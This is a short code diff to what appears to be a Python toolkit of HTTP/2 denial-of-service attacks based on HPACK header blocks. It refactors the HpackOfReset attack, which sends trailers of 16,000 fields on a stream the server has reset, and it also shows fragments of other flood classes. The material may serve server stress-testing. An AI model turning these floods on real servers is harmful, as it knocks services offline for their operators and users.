@@ -1,6 +1,7 @@
 """Attacks by header blocks; see http2_attacks.py."""
 import http2_frames as h2
-from http2_attacks import (BURST, GET, HOLD, POST, Attack, DataFlood, Paced, Streams, block, burst_of, each, field)
+from http2_attacks import (BURST, GET, HOLD, POST, Attack, DataFlood, DataOfReset, Paced, block, burst_of,
+                           each, field)
 from http2_frames import continuation, headers
 
 FLAP = b"\x20\x3f\xe1\x1f"  # the table's size: 0, then 4096
@@ -86,14 +87,8 @@ class HpackTrailers(Paced):
             headers(b"\x90" * 16000, number)
 
 
-class HpackOfReset(Attack):
+class HpackOfReset(DataOfReset):
     """Trailers of 16,000 fields on a stream that the server has reset: decoded for nothing."""
-
-    def script(self):
-        head = block(method=POST, more=field("content-length", "1"))
-        yield self.opening() + headers(head, 1, end_stream=False) + h2.data(b"22", 1)
-        while True:
-            yield burst_of(type(self), 0)
 
     @staticmethod
     def burst(number):
